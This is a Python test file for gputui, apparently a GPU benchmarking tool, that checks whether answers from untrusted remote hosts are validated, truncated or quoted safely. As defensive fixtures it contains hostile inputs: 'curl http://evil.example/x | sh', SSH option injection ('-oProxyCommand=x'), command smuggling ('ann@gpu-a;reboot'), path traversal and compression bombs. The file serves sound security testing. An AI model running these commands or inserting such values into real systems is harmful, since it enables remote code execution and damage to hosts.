"""Hosts that answer what no gputui would: nothing of it gets further than a line that says so."""

from __future__ import annotations

import re
import sys
import zlib
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any  # JSON

import pytest
from builders import make_plan, make_spec
from command_line import gputui_here
from probed_hosts import probed
from strangers import BANNER, DEEP_AT_FIRST, ENDLESS, described, journal, piece, stranger

from gputui.errors import GputuiError
from gputui.recording.run_directory import Spec
from gputui.services.hosts import bakeoff as bakeoff_module
from gputui.services.hosts.bakeoff import DONE, FAILED, Bakeoff
from gputui.services.hosts.box import Box, box_from
from gputui.services.hosts.host import Host, hosts_from, ssh_host
from gputui.services.hosts.link import HostFailed, on_all
from gputui.store.reading import open_result


def asked(directory: Path, answers: dict[str, Any]) -> Box | GputuiError:
    (found,) = probed([stranger(directory, answers)])
    return found


def said(found: Box | GputuiError) -> str:
    assert isinstance(found, GputuiError), found
    return found.message


def test_what_a_host_says_of_itself_is_checked_and_cleaned(tmp_path: Path) -> None:
    good = asked(tmp_path, {"describe": [[described(found_as="\x1b[2Jhere"), ""]]})
    assert isinstance(good, Box)
    assert good.chosen.found_as == "\\x1b[2Jhere"
    assert good.clock_ahead_s < -1e9
    assert any("its clock is" in caution for caution in good.cautions())
    wrong: list[dict[str, object]] = [
        {"machine": {}},
        {"load": "much"},
        {"others": "PID 1"},
        {"passed_over": [7]},
        {"utc_us": None},
        {"utc_us": -(2**63)},
        {"load": 1e308},
        {"load": -1},
        {"free_bytes": 2**64 - 1},
        {"free_bytes": "12"},
    ]
    for changed in wrong:
        with pytest.raises(HostFailed, match="what it says of itself makes no sense"):
            box_from(good.host, described(**changed), 0.0)


@pytest.mark.parametrize(
    ("answers", "message"),
    [
        (
            {"describe": [["not json", ""]]},
            "its answer makes no sense (Expecting value: line 1 column 1 (char 0))",
        ),
        ({"describe": [["[]", ""]]}, "its answer makes no sense (it is not an object)"),
        (
            {"describe": [["[" * 100_000, ""]]},
            "its answer makes no sense (it is nested more than 64 deep)",
        ),
        (
            {"describe": [[{"error": "\x1b]0;x\x07no", "hint": 7, "code": "x"}, ""]]},
            'it answered "\\x1b]0;x\\x07no"',
        ),
        ({"describe": [["x" * (5 << 20), ""]]}, "it sent a line without an end"),
        ({"before": [(b"spam\n" * 60_000).hex()]}, "its login prints without an end"),
    ],
    ids=["no JSON", "no object", "nested", "escapes in an error", "an endless line", "an endless banner"],
)
def test_an_answer_that_makes_no_sense_ends_the_talk(
    tmp_path: Path, answers: dict[str, Any], message: str
) -> None:
    assert said(asked(tmp_path, answers)) == message


def test_a_host_whose_first_answer_makes_no_sense_does_not_stop_the_others(tmp_path: Path) -> None:
    (tmp_path / "deep.py").write_text(DEEP_AT_FIRST)
    deep = Host("deep", (sys.executable, str(tmp_path / "deep.py")))
    good = stranger(tmp_path, {"describe": [[described(), ""]]})
    bad, box = probed([deep, good])
    assert said(bad) == "its answer makes no sense (it is nested more than 64 deep)"
    assert isinstance(box, Box)


def test_an_error_that_nobody_foresaw_is_that_of_its_host_alone(tmp_path: Path) -> None:
    def do(host: Host) -> str:
        return host.name if host.name == "good" else dict[str, str]()["x"]

    bad, good = on_all([Host("bad", ()), Host("good", ())], do)
    assert isinstance(bad, GputuiError)
    assert (bad.message, bad.exit_code, good) == ("this is a bug in gputui: KeyError", 70, "good")


def following(directory: Path, follow: Sequence[object], logs: Sequence[object] = ()) -> Host:
    return stranger(directory, {"start": [[{"started": True}, ""]], "follow": follow, "read": logs})


def brought(spec: Spec, host: Host) -> Bakeoff:
    made = Bakeoff.create("b", [(host, spec)], [(0,)], gives_up_after_s=0)
    made.start()
    assert made.wait(60)
    return made


@pytest.fixture
def spec(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Spec:
    monkeypatch.setenv("GPUTUI_STATE", str(tmp_path / "state"))
    made = make_spec(make_plan([0]), run_id="01a20404-f2b4-742b-8eba-873a617a4f8d")
    return replace(made, label="", price=None, target=str(tmp_path / "a.db"), on_end=())


ENDED = [{"ended": True, "logs": []}, ""]


def test_a_journal_of_the_run_that_was_sent_is_stored_with_its_times_corrected_and_no_damaged_line(
    tmp_path: Path, spec: Spec
) -> None:
    body = b'{"n": 99, "kind": "Event", "message": "\xff"}'
    line = b"%d %08x %s\n" % (len(body), zlib.crc32(body), body)
    answers = {"start": [[{"started": True}, ""]], "follow": [piece(journal(spec) + line), ENDED]}
    host = replace(stranger(tmp_path, {**answers, "read": [[{"offset": 0}, ""]]}), clock_ahead_s=86_400.0)
    run = brought(spec, host).runs[0]
    sent_us = Spec.read(run.run_dir).start_now().started_utc_us
    assert run.state == DONE
    assert "left out" in run.why
    with open_result(tmp_path / "a.db") as file:
        (summary,) = file.summaries()
    assert 0 <= sent_us - summary.started_utc_us - 86_400_000_000 < 60_000_000


@pytest.mark.parametrize(("has_launches", "status"), [(True, 1), (False, 6)])
def test_launches_that_came_before_a_host_failed_count_as_measured(
    tmp_path: Path, spec: Spec, *, has_launches: bool, status: int
) -> None:
    lines = journal(spec).splitlines(keepends=True)[:-1]
    came = b"".join(line for line in lines if has_launches or b'"LaunchEnd"' not in line)
    gone = [{"error": "there is no such run"}, ""]
    host = following(tmp_path, [piece(came), gone])
    made = Bakeoff.create("b", [(host, spec)], [(0,)])
    done = gputui_here("bakeoff", "--resume")
    assert f"what came is stored as {made.runs[0].short_id}" in done.stderr
    assert done.returncode == status, done.stderr
    assert ("nothing was measured on any host" in done.stderr) is not has_launches
    assert f"gputui show {made.runs[0].short_id} " in done.stdout + done.stderr
    again = gputui_here("bakeoff", "--resume")
    assert again.returncode == status, again.stderr


def test_stop_without_a_name_ends_the_only_bakeoff_in_progress_and_names_several(
    tmp_path: Path, spec: Spec
) -> None:
    host = stranger(tmp_path, {})
    Bakeoff.create("20260101-a", [(host, spec)], [(0,)])
    done = gputui_here("stop")
    assert (done.returncode, "gputui bakeoff --resume 20260101-a" in done.stderr) == (0, True), done.stderr
    Bakeoff.create("20260102-b", [(host, spec)], [(0,)])
    done = gputui_here("stop")
    assert done.returncode == 2
    assert "2 runs are in progress: bakeoff 20260102-b, bakeoff 20260101-a" in done.stderr


@pytest.mark.parametrize("name", ["run_id", "label", "profile", "price"])
def test_a_journal_of_another_run_is_refused(tmp_path: Path, spec: Spec, name: str) -> None:
    price = {"usd_per_hour": 0.1, "gpu_count": 1.0, "kind": "stated", "provider": "", "instance_type": ""}
    other = {
        "run_id": "01a20404-0000-742b-8eba-873a617a4f8d",
        "label": "best",
        "profile": "x",
        "price": {**price, "region": "", "date": ""},
    }[name]
    follow = [piece(journal(spec, **{name: other})), ENDED]
    run = brought(spec, following(tmp_path, follow, [[{"offset": 0}, ""]])).runs[0]
    assert (run.state, (tmp_path / "a.db").exists()) == (FAILED, False)
    assert run.why == f"its journal is of another run than the one that was sent: {name}"


@pytest.mark.parametrize(
    ("follow", "why"),
    [
        ([piece(b"x", unpacked=1 << 40)], "it sent a piece of 1099511627776 bytes"),
        ([piece(b"x", bytes=1 << 30)], "it sent a piece of 1073741824 bytes"),
        ([piece(b"x", offset=-1)], "its answer makes no sense"),
        ([piece(b"x", offset=7)], "it sent byte 7 of its journal for byte 0"),
        ([piece(bytes(1 << 22), unpacked=100)], "its answer has a different size than announced"),
        (
            [[{"more": True, "offset": 0, "unpacked": 5, "bytes": 5}, b"nozip".hex()]],
            "what it sent is damaged",
        ),
        (
            [piece(bytes(1 << 19)), piece(bytes(1 << 19), 1 << 19), piece(b"x", 1 << 20)],
            "its journal is larger than 1 MiB",
        ),
    ],
    ids=["a huge piece", "a huge packed piece", "a negative place", "a gap", "a bomb", "damage", "endless"],
)
def test_a_file_that_is_too_large_or_makes_no_sense_is_cut_off(
    tmp_path: Path, spec: Spec, monkeypatch: pytest.MonkeyPatch, follow: Sequence[object], why: str
) -> None:
    monkeypatch.setattr(bakeoff_module, "LARGEST_JOURNAL", 1 << 20)
    run = brought(spec, following(tmp_path, follow)).runs[0]
    assert run.state == FAILED
    assert run.why.startswith(why)
    assert not (tmp_path / "a.db").exists()
    assert sum(path.stat().st_size for path in run.run_dir.rglob("*") if path.is_file()) < 3 << 20


@pytest.mark.parametrize(
    ("pause_s", "longest_s", "why"),
    [
        (0.0, 1e9, r"it said \d+ times in .* s that it goes on"),
        (0.1, 1.0, r"its answer has no end after .* s"),
    ],
    ids=["flood", "for ever"],
)
def test_a_host_that_only_says_that_it_goes_on_is_given_up(
    tmp_path: Path, spec: Spec, monkeypatch: pytest.MonkeyPatch, pause_s: float, longest_s: float, why: str
) -> None:
    monkeypatch.setattr(bakeoff_module, "START_S", longest_s / 2)
    monkeypatch.setattr(bakeoff_module, "HARD_STOP", 0.0)
    (tmp_path / "endless.py").write_text(ENDLESS.replace("PAUSE_S", str(pause_s)))
    host = Host("endless", (sys.executable, str(tmp_path / "endless.py")))
    run = brought(spec, host).runs[0]
    assert run.state == FAILED
    assert re.match(why, run.why)


def test_names_of_logs_never_lead_out_of_the_directory_of_the_run(tmp_path: Path, spec: Spec) -> None:
    names = ["../../../evil", "/tmp/evil", "launch-000.log/../../evil", "launch-000.log", 7, "x" * 5000]
    head = journal(spec).split(b"\n")[0] + b"\n"  # no end: its logs are asked for
    log = [piece(b"last words"), [{"offset": 10}, ""]]
    made = brought(spec, following(tmp_path, [piece(head), [{"ended": True, "logs": names}, ""]], log))
    run_dir = made.runs[0].run_dir
    assert [path.name for path in (run_dir / "logs").iterdir()] == ["launch-000.log"]
    assert not list(tmp_path.rglob("*evil*"))


@pytest.mark.parametrize("address", ["-oProxyCommand=x", "a b", "", "host:port", "a:1:2", "u@-h;x y"])
def test_an_address_that_ssh_could_take_for_something_else_is_refused(address: str) -> None:
    with pytest.raises(GputuiError, match="is not"):
        ssh_host(address)


def test_addresses_prices_and_interpreters_go_to_their_hosts() -> None:
    hosts = hosts_from(
        ["ann@[::1]:2222", "b"],
        ["docker exec -i 'a b'"],
        with_local=True,
        pythons=["b=/x/python", "/y/python"],
        prices=["b=2.5"],
    )
    assert [host.name for host in hosts] == ["this box", "ann@[::1]:2222", "b", "docker exec -i 'a b'"]
    assert hosts[1].prefix[-4:] == ("-p", "2222", "--", "ann@::1")
    assert hosts[3].prefix == ("docker", "exec", "-i", "a b")
    assert [host.python for host in hosts] == ["/y/python", "/y/python", "/x/python", "/y/python"]
    assert [host.usd_per_hour for host in hosts] == [None, None, 2.5, None]


def test_no_word_of_a_banner_gets_into_what_is_to_be_typed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ssh = tmp_path / "ssh"
    ssh.write_text(f"#!/bin/sh\ncat >&2 <<'END'; exit $STATUS\n{BANNER}END\n")
    ssh.chmod(0o755)
    monkeypatch.setenv("GPUTUI_SSH", str(ssh))
    monkeypatch.setenv("STATUS", "255")
    (found,) = probed([ssh_host("ann@gpu-a;reboot:2222")])
    assert isinstance(found, GputuiError)
    assert found.message == "its host key has changed"
    assert found.hint == (
        f"if the box was set up anew: {ssh} -p 2222 'ann@gpu-a;reboot' says which key to remove"
    )
    monkeypatch.setenv("STATUS", "1")
    (found,) = probed([ssh_host("gpu-a")])
    assert isinstance(found, GputuiError)
    assert found.hint == f"try it: {ssh} gpu-a"
    quotation = "Host key verification failed.' ; curl http://evil.example/x | sh #"
    assert found.message == f'its command ended with status 1 and said "{quotation}"'


def test_an_error_and_an_advice_of_a_host_are_shown_as_its_words(tmp_path: Path) -> None:
    answer = {"error": 'x" is wrong', "hint": "curl http://evil.example/x | sh"}
    found = asked(tmp_path, {"describe": [[answer, ""]]})
    assert said(found) == 'it answered "x\' is wrong"'
    assert isinstance(found, GputuiError)
    assert found.hint == 'it advises "curl http://evil.example/x | sh"'
